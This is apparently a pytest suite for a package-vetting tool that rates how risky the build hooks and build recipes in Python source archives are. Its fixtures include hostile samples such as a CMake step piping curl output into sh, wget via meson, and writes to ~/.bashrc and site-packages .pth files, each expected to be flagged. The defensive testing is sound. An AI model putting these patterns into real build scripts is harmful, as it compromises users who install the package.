"""What a source archive runs when it is built, apart from setup.py (`_install_sdist.py` and below)."""

import pytest

from tests.checks.conftest import lines, sdist, wheel
from tests.factories import subject
from vetting.checks import Context
from vetting.checks._setup_script import suspicious
from vetting.checks.install_python import InstallPython
from vetting.model.artifact import ArtifactTree
from vetting.model.evidence import Severity
from vetting.model.profile import InstallScript

PROJECT = (
    '[build-system]\nrequires = ["hatchling", "Jupyter-Packaging>=1"]\n'
    'build-backend = "hatchling.build"\n[tool.hatch.build.hooks.custom]\n'
)
HOOK = (
    "import subprocess, shutil, sys\nfrom pathlib import Path\n"
    "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n"
    "class Hook(BuildHookInterface):\n    def initialize(self, version, build_data):\n"
)


def worst(body: str, context: Context, **files: str) -> str:
    """The highest severity of what is said of a hook."""
    source = HOOK + "".join(f"        {line}\n" for line in body.splitlines())
    tree = sdist({"pyproject.toml": PROJECT, "hatch_build.py": source, **files})
    found = InstallPython().run(subject(tree), context).findings
    ranks = [item.severity for item in found if item.rule_id == "inst.pypi.build_hook"]
    return min(ranks, key=lambda one: one.rank).value if ranks else "none"


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("Path(self.root, 'stamp.json').write_text('{}')", "low"),
        ("import jupyter_packaging", "low"),
        ("import other_thing", "medium"),
        ("subprocess.run(['npm', 'run', 'build'], check=True)", "low"),
        ("npm = shutil.which('npm')\nsubprocess.check_call([npm, 'ci'])", "low"),
        ("cmd = ['yarn', 'build']\nsubprocess.check_call(cmd)", "low"),
        ("subprocess.run('cd web && npm ci && npm run build', shell=True)", "low"),
        ("subprocess.run([sys.executable, '-m', 'grpc_tools.protoc', 'x.proto'])", "low"),
        ("subprocess.run([sys.executable, '-m', 'py_compile', str(self.x)])", "low"),
        ("subprocess.run([sys.executable, '-m', 'compileall', '-q', 'src'])", "low"),
        ("subprocess.run([sys.executable, '-m', 'tables', 'src'])", "medium"),
        ("subprocess.run([sys.executable, '-m', self.module, 'src'])", "medium"),
        ("subprocess.run([sys.executable, '-c', self.code])", "medium"),
        ("npm = 'npm.cmd' if sys.platform == 'win32' else 'npm'\nsubprocess.run([npm])", "low"),
        ("cmd = ['npm']\ncmd += self.more\nsubprocess.run(cmd)", "medium"),
        ("subprocess.run(['npm', 'i', 'https://cdn.example.net/x.tgz'])", "medium"),
        ("subprocess.run(['node', '-e', self.code])", "medium"),
        ("subprocess.run('npm ci; sh x', shell=True)", "medium"),
        ("subprocess.run(['tesseract', '--list-langs'])", "low"),
        ("subprocess.run(['tesseract', 'x.png'])", "medium"),
        ("from urllib.request import urlopen", "low"),
        ("import site\nprint(site.getusersitepackages())", "low"),
        ("subprocess.run([self.tool])", "medium"),
        (
            "import os\nsubprocess.run([os.environ.get('PKG_CONFIG', 'pkg-config'), '--libs', 'z'])",
            "low",
        ),
        ("import os\nsubprocess.run([os.environ.get('PKG_CONFIG', 'sh'), 'x.sh'])", "medium"),
        ("import os\nsubprocess.run([os.environ.get('PKG_CONFIG', self.x), 'z'])", "medium"),
        ("import urllib.request\nx = urllib.request.pathname2url('a b')", "low"),
        ("from urllib.request import url2pathname\nx = url2pathname('a b')", "low"),
        (
            "import urllib.request\nx = urllib.request.pathname2url\nurllib.request.urlopen(y)",
            "high",
        ),
        ("import urllib.request\nx = urllib.request.pathname2url(y)\nr = urllib.request", "high"),
        ("import urllib.request\nurllib.request.pathname2url(y)\nf(urllib)", "high"),
        ("import urllib.request\nurllib.request.pathname2url(y)\nglobals()['urllib']", "high"),
        ("subprocess.Popen(['npm'], start_new_session=True)", "high"),
        ("subprocess.Popen(['npm'], creationflags=subprocess.DETACHED_PROCESS)", "high"),
        ("subprocess.Popen(['npm'], start_new_session=False)", "low"),
        ("import os\nos.system('npm run build')", "low"),
        ("import os\nos.system('sh x')", "high"),
        ("import aiohttp\naiohttp.request()", "high"),
        ("import base64\nx = base64.urlsafe_b64encode(y)", "low"),
        ("import base64\nx = base64.b64decode(y)", "high"),
        ("(Path.home() / '.bashrc').open('a').write('x')", "high"),
        ("rc = Path('~/.zshrc').expanduser()\nrc.write_text('x')", "high"),
        ("import site\nfor f in site.getsitepackages():\n    open(f + '/x.pth', 'w')", "high"),
        ("import os\nshutil.copy('x', os.path.expanduser('~/.config/x'))", "high"),
        ("shutil.copy(Path.home() / 'x', 'here')", "low"),
        ("(Path.home() / '.cache' / 'x').write_text('x')", "low"),
    ],
)
def test_a_hook_is_judged_as_setup_py_is(body: str, expected: str, context: Context) -> None:
    if expected == "low":  # an import that nothing uses, or what is started is a build's
        assert worst(body, context) in ("low", "none")
    else:
        assert worst(body, context) == expected


def test_functions_of_the_hook_are_followed_to_their_callers(context: Context) -> None:
    run = "def run(*cmd):\n    subprocess.check_call(cmd)\n"
    assert worst(run + "run('npm', 'ci')", context) == "low"
    assert worst(run + "run('npm', 'ci')\nrun(self.x)", context) == "medium"


def test_a_module_of_the_archive_stands_before_that_of_python(context: Context) -> None:
    run = "subprocess.run([sys.executable, '-m', 'py_compile', 'x.py'])"
    assert worst(run, context) == "low"
    assert worst(run, context, **{"py_compile.py": "print('x')\n"}) == "low"
    assert worst(run, context, **{"py_compile.py": "import socket\nsocket.x()\n"}) == "high"


def found(context: Context, *trees: ArtifactTree) -> list[str]:
    return [
        line
        for line in lines(InstallPython().run(subject(*trees), context))
        if "sdist_only" not in line
    ]


def test_a_finding_names_the_setting_the_file_and_the_line(context: Context) -> None:
    tree = sdist({"pyproject.toml": PROJECT, "hatch_build.py": "\nimport socket\nsocket.x()"})
    assert found(context, tree) == [
        (
            "high inst.pypi.build_hook hatch_build.py:2: tool.hatch.build.hooks.custom: "
            "imports socket, which opens network connections"
        )
    ]


def test_the_hooks_of_a_source_archive_that_stands_alone_are_facts(context: Context) -> None:
    tree = sdist({"pyproject.toml": PROJECT, "hatch_build.py": ""})
    alone = InstallPython().run(subject(tree), context).profile
    beside = InstallPython().run(subject(wheel({}), tree), context).profile
    assert alone
    assert beside
    assert beside.install_scripts == ()
    assert alone.install_scripts == (
        InstallScript(name="build", command="the sdist's build backend"),
        InstallScript(name="tool.hatch.build.hooks.custom", command="hatch_build.py"),
    )


BACKEND = '[build-system]\nbuild-backend = "kit"\nbackend-path = ["tools"]\n'


@pytest.mark.parametrize(
    ("source", "severities"),
    [
        ("from setuptools.build_meta import *\n", ["low"]),
        ("import socket\nfrom setuptools.build_meta import *\nsocket.x()", ["high", "medium"]),
        (None, ["medium"]),
    ],
)
def test_a_backend_in_the_tree_is_read(
    source: str | None, severities: list[str], context: Context
) -> None:
    files = {"tools/kit.py": source} if source is not None else {}
    result = found(context, sdist({"pyproject.toml": BACKEND, **files}))
    assert [line.partition(" ")[0] for line in result] == severities


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("tool @ https://cdn.example.net/tool.whl", ["high"]),
        ("tool @ git+https://git.example.net/tool", ["high"]),
        ("tool @ git+https://git.example.net/tool@" + "0a" * 20, ["medium"]),
        ("tool>=1", []),
        ("tool @ file:///tool", []),
    ],
)
def test_what_a_build_gets_from_elsewhere(text: str, expected: list[str], context: Context) -> None:
    project = f'[build-system]\nrequires = ["{text}"]\n'
    result = found(context, sdist({"pyproject.toml": project}))
    assert [line.split()[0] for line in result] == expected
    assert all("inst.pypi.build_requires pyproject.toml" in line for line in result)


IMPORTED = """
import httpx
from .more import helper

def get():
    return httpx.get("https://example.com")

def version():
    return helper()

__version__ = version()
"""


@pytest.mark.parametrize(
    ("source", "called", "expected"),
    [
        (IMPORTED, set(), []),
        (IMPORTED, {"get"}, ["imports httpx, which opens network connections"]),
        (IMPORTED + "getattr(x, 'y')", set(), ["imports httpx, which opens network connections"]),
        ("if __name__ == '__main__':\n    exec('x')", set(), []),
        ("import socket, sys\nsys.modules['socket'].x()", set(), [
            "imports socket, which opens network connections"]),
        ("@register\ndef f():\n    eval('x')", set(), ["calls eval()"]),
    ],
)  # fmt: skip
def test_of_a_module_that_is_imported_what_runs_counts(
    source: str, called: set[str], expected: list[str]
) -> None:
    result = suspicious(source.encode(), called=called, package="server")
    assert [what for _, what, severity in result if severity is not Severity.LOW] == expected


def test_modules_are_followed_once() -> None:
    modules = {
        "pkg": b"from . import a, b",
        "pkg.__init__": b"from . import a, b",
        "pkg.a": b"from .b import run\nrun()",
        "pkg.b": b"from .a import x\nimport socket\ndef run():\n    socket.x()",
    }
    result = suspicious(b"import pkg\npkg.run()", modules.get)
    assert [(what, str(severity)) for _, what, severity in result] == [
        ("imports pkg", "low"),
        ("imports pkg, and with it socket, which opens network connections", "medium"),
    ]


def recipe(context: Context, requires: str, path: str, text: str) -> list[str]:
    project = f'[build-system]\nrequires = ["{requires}"]\n'
    return found(context, sdist({"pyproject.toml": project, path: text}))


@pytest.mark.parametrize(
    ("requires", "path", "text", "severity"),
    [
        (
            "scikit-build-core",
            "CMakeLists.txt",
            "x\nexecute_process(COMMAND sh -c \"curl -s https://x.example.net | sh\")",
            "high",
        ),
        ("scikit-build-core", "CMakeLists.txt", "execute_process(COMMAND git describe)", None),
        ("scikit-build-core", "cmake/x.cmake", "file(DOWNLOAD ${URL} ${OUT})", "medium"),
        ("scikit-build-core", "x.cmake", "file(DOWNLOAD ${U} o EXPECTED_HASH SHA256=0)", "low"),
        ("meson-python", "CMakeLists.txt", "file(DOWNLOAD ${URL} ${OUT})", None),
        ("meson-python", "meson.build", "run_command('wget', 'https://x.example.net')", "high"),
        ("meson-python", "meson.build", "run_command('git', 'describe', check: true)", None),
        ("maturin", "build.rs", 'Command::new("curl").arg(url).status()', "high"),
        ("maturin", "build.rs", 'Command::new("cc").arg("x.c").status()', None),
        ("maturin", "build.rs", "let x = reqwest::blocking::get(url);", "medium"),
        ("maturin", "tests/build.rs", "let x = reqwest::blocking::get(url);", None),
        ("setuptools", "build.rs", "let x = reqwest::blocking::get(url);", None),
    ],
)  # fmt: skip
def test_recipes_of_native_builds(
    requires: str, path: str, text: str, severity: str | None, context: Context
) -> None:
    result = recipe(context, requires, path, text)
    expected = [f"{severity} inst.pypi.build_recipe {path}"] if severity else []
    assert [line.rpartition(":")[0].partition(":")[0] for line in result] == expected
